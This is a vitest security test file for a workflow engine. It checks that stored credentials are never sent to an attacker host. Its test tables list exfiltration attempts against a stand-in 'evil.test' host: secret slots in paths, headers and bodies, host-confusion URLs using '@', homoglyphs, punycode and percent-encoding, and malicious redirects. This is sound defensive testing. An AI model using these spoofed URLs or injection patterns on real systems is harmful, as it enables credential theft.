import { describe, expect, it } from 'vitest';
import type { Definition, HttpRequestTemplate } from '#engine';
import { attempt, BANK, CANARY, EVIL, expectRefused, post, slot, step } from '../../support/attacks.js';
import { bearer, shelf } from '../../support/credentials.js';
import { graph, json } from '../../support/engine.js';
import { encoders } from '../../support/secret-encoders.js';

describe('the search for the secret', () => {
  it('notices one that a stranger gets', async () => {
    const flow = graph('a', { a: step('a', { url: `${EVIL}/`, auth: slot }) });
    const { leaks } = await attempt({ graph: flow, credential: { hosts: ['evil.test'] } });
    expect(leaks).toBe(true);
  });

  it.each(encoders)('notices one in an event: $name', async ({ encode }) => {
    const echo = json({ you: encode(CANARY) });
    const { leaks } = await attempt({
      graph: graph('a', { a: step('a', { url: `${BANK}/` }) }),
      bank: () => echo,
    });
    expect(leaks).toBe(true);
  });
});

describe('whoever writes a template never gets a secret', () => {
  it.each<[string, Partial<HttpRequestTemplate> & { url: string }]>([
    ['the auth', { url: `${EVIL}/`, auth: slot }],
    ['an explicit auth', { url: `${EVIL}/`, auth: { type: 'bearer', token: '{{workspace.main}}' } }],
    ['the path', { url: `${EVIL}/{{workspace.main}}` }],
    ['a path value', { url: `${EVIL}/:id`, path: { id: '{{workspace.main}}' } }],
    ['the query', { url: `${EVIL}/?{{workspace.main}}` }],
    ['a parameter', { url: `${EVIL}/`, query: { q: ['{{workspace.main}}'] } }],
    ['a header', { url: `${EVIL}/`, headers: { 'X-A': '{{workspace.main}}' } }],
    ['a body', post(`${EVIL}/`, { a: ['x{{workspace.main}}'] })],
    ['a key', { ...post(`${EVIL}/`, {}), idempotency: { key: '{{workspace.main}}' } }],
    ['the fragment', { url: `${EVIL}/#{{workspace.main}}` }],
  ])('[S23] with the address of another host and a slot in %s', async (_name, request) => {
    const { strangers } = await expectRefused({ graph: graph('a', { a: step('a', request) }) }, 'credential');
    expect(strangers).toEqual([]);
  });

  it.each([
    'https://bank.test:8443/',
    'http://bank.test/',
    'http://bank.test:443/',
    'https://bank.test./',
    'https://x@bank.test/',
    'https://bank.test@evil.test/',
    'https://bank.test:x@evil.test/',
    'https://evil.test\\@bank.test/',
    'https://bank.test.evil.test/',
    'https://evil.test/https://bank.test/',
    'https://evil.test?bank.test',
    'https://evil.test#@bank.test/',
    'https://xn--bank.test/',
    'https://b\u0430nk.test/',
    'https://bank\u3002test/',
    'https://ba%6ek.test/',
    'HTTP://BANK.TEST/',
  ])('[S23] with an address that only looks like the right one: %s', async (url) => {
    const literal = graph('a', { a: step('a', { url, auth: slot }) });
    expect((await expectRefused({ graph: literal })).host.sent).toEqual([]);
    const computed = graph('a -> b', {
      a: step('a', { url: `${EVIL}/` }),
      b: step('b', { url: '{{a.url}}', auth: slot }),
    });
    const { host } = await expectRefused({ graph: computed, others: () => json({ url }) });
    expect(host.sent).toHaveLength(1);
  });

  it.each(['https://BANK.test/', 'HTTPS://bank.TEST:443/x'])(
    '[S23] while %s is the right one',
    async (url) => {
      const { result, leaks, host } = await attempt({
        graph: graph('a', { a: step('a', { url, auth: slot }) }),
      });
      expect([result.status, leaks, host.sent.length]).toEqual(['succeeded', false, 1]);
      expect(host.sent[0]?.request.headers.authorization).toContain(CANARY);
    },
  );

  it('[S23] by a host that a step’s output names', async () => {
    const flow = graph('a -> b', {
      a: step('a', { url: `${EVIL}/` }),
      b: step('b', { url: '{{a.url}}', auth: slot }),
    });
    await expectRefused({ graph: flow, others: () => json({ url: `${EVIL}/steal` }) }, 'credential');
  });

  it('[S23] by a redirect from the right host', async () => {
    const { host } = await attempt({
      graph: graph('a', { a: step('a', { url: `${BANK}/go?to=evil.test`, auth: slot }) }),
    });
    const { mayFollow } = host.sent[0]?.options ?? {};
    expect(mayFollow?.(`${BANK}/elsewhere`)).toBe(true);
    for (const url of [
      `${EVIL}/`,
      'http://bank.test/',
      'https://bank.test:8443/',
      'https://bank.test@evil.test/',
    ])
      expect(mayFollow?.(url)).toBe(false);
  });

  it.each(['*.com', '*.test', '*', '*.github.io', '*.co.uk', 'evil.test'])(
    '[S23] by declaring %s',
    async (declared) => {
      for (const host of ['evil.com', 'evil.test', 'evil.github.io', 'evil.co.uk']) {
        const flow = graph('a', { a: step('a', { url: `https://${host}/`, auth: slot }) });
        const { strangers } = await expectRefused(
          { graph: flow, hosts: [declared] },
          /credential|not_permitted/,
        );
        expect(strangers).toEqual([]);
      }
    },
  );

  it.each(['*', '*.test', '*.github.io', 'bank.test/', '', ' evil.test'])(
    '[S23] by a credential whose hosts are a pattern: %j',
    async (entry) => {
      for (const host of ['bank.test', 'evil.test', 'evil.github.io']) {
        const flow = graph('a', { a: step('a', { url: `https://${host}/`, auth: slot }) });
        await expectRefused({ graph: flow, credential: { hosts: [entry] } }, 'credential');
      }
    },
  );

  it('[S23] by a credential that names no hosts', async () => {
    const flow = graph('a', { a: step('a', { url: `${BANK}/`, auth: slot }) });
    const { result } = await expectRefused({ graph: flow, credential: { hosts: [] } }, 'credential');
    expect(result.error?.message).toContain('no hosts');
  });

  it('[S23] by a host that its credential is for, and the template doesn’t declare', async () => {
    const flow = graph('a', { a: step('a', { url: `${BANK}/`, auth: slot }) });
    await expectRefused({ graph: flow, hosts: ['other.test'] }, 'not_permitted');
  });

  it('[S23] by a second slot in a request that the first may make', async () => {
    const flow = graph('a', {
      a: step('a', {
        url: `${EVIL}/`,
        auth: { type: 'credential', slot: 'mine' },
        headers: { x: '{{workspace.main}}' },
      }),
    });
    const credentials = shelf({
      mine: bearer('the-authors-own', ['evil.test']),
      main: bearer(CANARY, ['bank.test']),
    });
    const { strangers } = await expectRefused({ graph: flow, options: { credentials } }, 'credential');
    expect(strangers).toEqual([]);
  });

  it('[S23] by a connector that is given another slot than it is made for', async () => {
    const connector: Definition = {
      graph: graph('s', {
        s: step('s', { url: `${EVIL}/`, auth: { type: 'credential', slot: 'harmless' } }),
      }),
      permissions: { hosts: ['evil.test'] },
    };
    const call = {
      id: 'a',
      type: 'connector' as const,
      connector: 'c',
      input: {},
      credentials: { harmless: 'main' },
    };
    const credentials = shelf({
      main: bearer(CANARY, ['bank.test']),
      'c/harmless': bearer('harmless-token', ['evil.test']),
    });
    const options = { credentials, connectors: { c: connector } };
    await expectRefused({ graph: { steps: [call] }, options }, 'credential');
    expect(credentials.asked).toEqual(['find main']);
  });

  it('[S23] by asking for a slot of the graph that calls it', async () => {
    const connector: Definition = { graph: graph('s', { s: step('s', { url: `${BANK}/`, auth: slot }) }) };
    const call = { id: 'a', type: 'connector' as const, connector: 'c', input: {} };
    const options = {
      connectors: { c: connector },
      credentials: shelf({ main: bearer(CANARY, ['bank.test']) }),
    };
    const { host } = await expectRefused({ graph: { steps: [call] }, options }, 'credential');
    expect(host.sent).toEqual([]);
  });
});
